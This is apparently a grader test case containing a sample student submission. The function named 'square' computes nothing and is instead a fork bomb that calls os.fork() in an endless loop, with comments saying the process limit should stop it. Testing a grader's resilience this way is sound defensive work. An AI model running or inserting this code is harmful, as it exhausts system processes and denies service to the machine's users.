# marks: 0 1
# why: the number of processes is limited

# %% student
import os, time
def square(x):
    while True:
        try:
            os.fork()
        except OSError:  # as an ordinary user; root is stopped from outside
            os._exit(1)
